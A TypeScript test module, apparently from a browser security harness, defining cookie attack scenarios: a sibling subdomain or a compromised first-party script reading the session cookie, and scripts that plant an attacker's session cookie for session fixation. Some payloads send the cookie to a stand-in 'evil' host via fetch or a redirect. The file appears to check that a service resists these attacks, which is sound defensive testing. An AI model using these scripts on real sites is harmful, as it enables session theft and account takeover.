import type { Attack } from '../attack.js';
import type { Scene } from '../scene.js';

const STILL = 'page: still alice';

/** Somebody plants the attacker's session for the account page; then the person opens it. */
const plants = (
  id: string,
  what: string,
  from: (scene: Scene) => string,
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal: 'fixation',
  by: [STILL],
  pages: ({ host }) => ({
    '/plant': `<script>
const [name, value] = location.search.slice(1).split('=');
const secure = location.protocol === 'https:' ? '; secure' : '';
document.cookie = name + '=' + value + '; path=/account' + secure + (location.hostname === '${host}' ? '' : '; domain=${host}');
</script>`,
  }),
  async act(scene) {
    await scene.signIn();
    const planted = `${from(scene)}/plant?${scene.cookieName}=${scene.state.evilSession}`;
    await scene.open(planted, 'load');
    await scene.page.goto(`${scene.names.victim}/account`);
    if (scene.state.shown.length > 0 && scene.state.shown.every((who) => who === 'alice'))
      scene.note('still alice');
  },
  ...more,
});

export const cookies: readonly Attack[] = [
  {
    id: 'sibling-reads',
    what: "a page under the victim's own domain reads the session cookie",
    goal: 'loot',
    by: ['attacker: no cookie'],
    pages: () => ({
      '/go': `<script>document.cookie.includes('sid=') ? loot(document.cookie) : done('no cookie')</script>`,
    }),
    async act(scene) {
      await scene.signIn();
      await scene.open(`${scene.names.sibling}/go`);
    },
  },
  {
    id: 'sibling-receives',
    what: "a server under the victim's own domain is sent the session cookie",
    goal: 'loot',
    by: ['attacker: no cookie'],
    pages: ({ evil }) => ({
      '/go': (req, res) => {
        const path = (req.headers.cookie ?? '').includes('sid=') ? 'loot' : 'done';
        res.setHeader('Content-Type', 'text/html');
        res.end(
          `<script>fetch('${evil}/${path}', { method: 'POST', mode: 'no-cors', body: '${path === 'loot' ? 'the cookie' : 'no cookie'}' })</script>`,
        );
      },
    }),
    async act(scene) {
      await scene.signIn();
      await scene.open(`${scene.names.sibling}/go`);
    },
  },
  {
    id: 'own-script-reads',
    what: "the service's own script, gone bad, reads the session cookie",
    goal: 'loot',
    by: ['attacker: /done?nothing'],
    serve: ({ app, names, page, script }) =>
      void app.get('/stats', (_req, res) =>
        page(
          res,
          script(
            res,
            `location = '${names.evil}' + (document.cookie.includes('sid=') ? '/loot?cookie' : '/done?nothing')`,
          ),
        ),
      ),
    async act(scene) {
      await scene.signIn();
      await scene.open(`${scene.names.victim}/stats`);
    },
  },
  plants(
    'sibling-plants',
    "a page under the victim's own domain plants another session for a path",
    ({ names }) => names.sibling,
    { short: true },
  ),
  plants(
    'wire-plants',
    'who sits on the wire answers for the name over http and plants a session',
    ({ names }) => names.wire,
    { cookie: 'plain' },
  ),
  plants(
    'wire-plants-below',
    'who sits on the wire makes up a name below the domain and plants a session from there',
    ({ names }) => names.wireBelow,
    { cookie: 'plain' },
  ),
];
